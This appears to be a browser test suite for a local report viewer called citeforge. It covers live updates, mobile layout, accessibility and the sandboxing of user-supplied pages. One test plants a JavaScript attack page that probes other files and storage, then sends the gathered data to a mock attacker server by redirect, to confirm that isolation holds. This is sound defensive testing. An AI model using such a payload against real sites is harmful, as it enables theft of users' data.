"""The pages of `citeforge view` in headless Chromium: live, escaped, usable, and kept apart."""

from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import unquote

import pytest

from citeforge.engines.progress import progress
from citeforge.engines.progress_files import progress_file
from citeforge.library.viewer.server import open_viewer
from citeforge.reports.pages import page as report
from citeforge.schemas.scores import Slice
from conftest import Inline
from conftest_pages import expect, serious_faults
from conftest_plots import HOSTILE, answer, scored
from patience import patience

PHONE = {"width": 390, "height": 844}


@contextmanager
def served(*folders: Path) -> Iterator[str]:
    with open_viewer(folders) as viewer:
        thread = Thread(target=viewer.serve)
        thread.start()
        try:
            yield viewer.url
        finally:
            viewer.stop()
            thread.join()


def opened(browser: Any, url: str, **options: Any) -> Any:
    """A page of the server, with errors and requests of other servers noted."""
    context = browser.new_context(**options)
    context.set_default_timeout(1000 * patience(30))
    page = context.new_page()
    page.problems = []
    page.on("pageerror", lambda e: page.problems.append(f"error: {e}"))
    page.on("console", lambda m: m.type == "error" and page.problems.append(m.text))
    page.on("request", lambda r: url.startswith(r.url[:20]) or page.problems.append(r.url))
    page.goto(url)
    return page


@pytest.fixture
def folder(package: Path, inline: Inline) -> Path:
    """Answers, scores with hostile names, and a report beside them."""
    for n, name in enumerate((HOSTILE, "without-any-space-" * 8)):
        file = scored(name, {"CiteP": [0.5, 0.0, n]})
        (inline.folder / f"{n}.json").write_text(file.to_line())
    inline.ok("run", "random", "--benchmark", package, "--out", "random.jsonl")
    (inline.folder / f"{HOSTILE.replace('/', '')}.html").write_text("<p>Odd</p>")
    return inline.folder


def test_the_list_follows_its_files_and_keeps_what_is_chosen(browser: Any, folder: Path) -> None:
    with served(folder) as url:
        page = opened(browser, url)
        page.get_by_role("checkbox").first.check()
        expect(page.locator("#lists")).to_contain_text("30 answers")
        with progress_file("run", folder / "mine.jsonl"), progress("LLM", 8, "answers") as advance:
            advance(3)
            expect(page.locator(".works")).to_contain_text("mine.jsonl run LLM: 3 of 8 answers")
            expect(page.locator("progress")).to_have_attribute("value", "3")
            advance(2)
            expect(page.locator("progress")).to_have_attribute("value", "5")
        expect(page.locator(".works")).to_have_count(0)
        (folder / "2.json").write_text(scored("new one", {"CiteP": [1.0, 0.0]}).to_line())
        expect(page.locator("#lists")).to_contain_text("new one")
        # The chosen file is another row by now.
        expect(page.get_by_role("checkbox").nth(1)).to_be_checked()
        expect(page.get_by_role("checkbox").first).not_to_be_checked()
        assert page.title() == "citeforge view"
        page.get_by_role("checkbox").nth(2).check()
        page.get_by_role("button", name="Compare the chosen").click()
        page.wait_for_url("**/compare/*/")
        expect(page.locator("h1")).to_have_text("Comparison of systems")
        page.go_back()
        page.get_by_role("button", name="Report on the chosen").click()
        page.wait_for_url("**/report/*/")
        expect(page.locator("#tables table").first).to_be_visible()
        assert page.title() != "owned"
        assert page.problems == []


def test_the_file_that_a_browser_gets_leads_to_the_list(
    browser: Any, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []
    monkeypatch.setattr("webbrowser.open", lambda url: bool(asked.append(url)))
    with open_viewer([folder]) as viewer:
        thread = Thread(target=viewer.serve)
        thread.start()
        viewer.open_browser()
        page = browser.new_page()
        page.goto(asked[0])
        page.wait_for_url(viewer.url)
        expect(page.locator("h1")).to_have_text("citeforge view")
        assert page.evaluate("document.referrer") == ""
        viewer.stop()
        thread.join()


def test_the_list_says_that_the_server_has_ended(browser: Any, folder: Path) -> None:
    with served(folder) as url:
        page = opened(browser, url)
        expect(page.locator("#state")).to_have_text("")
    expect(page.locator("#state")).to_contain_text("has ended: start it again")


def test_pages_fit_a_phone_and_are_accessible(browser: Any, folder: Path, package: Path) -> None:
    with served(folder, package.parent) as url:
        page = opened(browser, url, viewport=PHONE)
        addresses = [
            "",
            *(page.locator(f"a[id^={x}-]").first.get_attribute("href") for x in "acqr"),
        ]
        for address in (*addresses, "report/nothing/"):
            page.goto(url + address)
            page.wait_for_load_state()
            assert page.evaluate("document.documentElement.scrollWidth") <= 390, address
            assert serious_faults(page) == [], address
        page.goto(url)
        links = page.locator("td a").all()
        # What leads on is in sight without scrolling the table.
        assert all(box["x"] + box["width"] <= 390 for a in links if (box := a.bounding_box()))


ATTACK = """<p id=out></p><script>
const say = text => { document.getElementById("out").textContent += text + " "; };
const got = [];
function citeforgeChunk(name, value) { got.push(value); }
say("runs");
fetch("LIST").then(r => r.text()).then(t => say("read"), () => say("refused"));
try { localStorage.setItem("a", "b"); say("kept"); } catch { say("apart"); }
const places = ["sent.data/q.js", "mine.data/q.js", "LISTfile/0/mine.data/q.js", "MINE.data/q.js",
  "LISTreport/KEY/page.data/q.js"];
Promise.all(places.map(place => new Promise(done => {
  const script = document.createElement("script");
  script.src = place;
  script.onload = script.onerror = done;
  document.head.append(script);
}))).then(() => {
  const own = performance.getEntriesByType("navigation").map(e => e.name);
  const seen = [location.href, document.referrer, ...own].join();
  location = "ELSEWHERE/leak?" + encodeURIComponent(JSON.stringify([got, seen.includes("LIST")]));
});
</script>"""


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """A server of an attacker: its address, and what it was asked for."""
    asked: list[str] = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(unquote(self.path))
            self.send_response(200)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    with HTTPServer(("127.0.0.1", 0), Answer) as server:
        thread = Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()
        thread.join()


def test_a_page_of_the_folder_is_kept_apart(
    browser: Any, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It passes on its own data alone, even if it knew the addresses of the others."""
    monkeypatch.setattr(report, "MOST_INLINE", 0)
    for name in ("sent", "mine"):
        (folder / f"{name}.data").mkdir()
        (folder / f"{name}.data" / "q.js").write_text(f'citeforgeChunk("q", "{name}");')
        (folder / f"{name}.html").write_text(f"<p>{name}</p>")
    with served(folder) as url, listening() as (elsewhere, asked):
        page = opened(browser, url)
        mine = page.locator("a[href$='/mine.html']").get_attribute("href")
        key = page.get_by_role("checkbox").first.get_attribute("value")
        page.goto(f"{url}report/{key}/")  # so that its data are there to ask for
        page.goto(url)
        text = ATTACK.replace("MINE", mine.removesuffix(".html")).replace("KEY", key)
        text = text.replace("LIST", url).replace("ELSEWHERE", elsewhere)
        (folder / "sent.html").write_text(text)
        page.locator("a[href$='/sent.html']").click()
        page.wait_for_url(f"{elsewhere}/*")
        assert [a for a in asked if "leak" in a] == ['/leak?[["sent"],false]']
        (folder / "sent.html").write_text(text.replace("location =", "const kept ="))
        page.goto(url)
        page.locator("a[href$='/sent.html']").click()
        expect(page.locator("#out")).to_have_text("runs apart refused")


def test_a_written_report_works_from_the_server(
    browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With its data beside it, as from a disk; answers are filtered by their metadata."""
    monkeypatch.setattr(report, "MOST_INLINE", 0)
    answers = [answer(f"q{i}", [[i % 5]], 0) for i in range(10)]
    file = scored("one", {"CiteP": [i / 10 for i in range(10)]}, answers)
    parts = [Slice(field="type", value=v, rows=[*range(n, 10, 2)]) for n, v in enumerate("ab")]
    out = tmp_path / "report.html"
    sliced = file.model_copy(update={"slices": parts})
    out.write_bytes(report.page_report([sliced], None, out)[0])
    assert (tmp_path / "report.data" / "s.js").is_file()
    with served(tmp_path) as url:
        page = opened(browser, url)
        page.get_by_role("link", name="Open").click()
        page.locator("#x-s").select_option("type=b")
        expect(page.locator("#x-count")).to_contain_text("5 of 10 queries")
        expect(page.locator("#x-detail")).to_contain_text("q1 · type: b")
        assert "s=type" in page.url
        assert page.problems == []
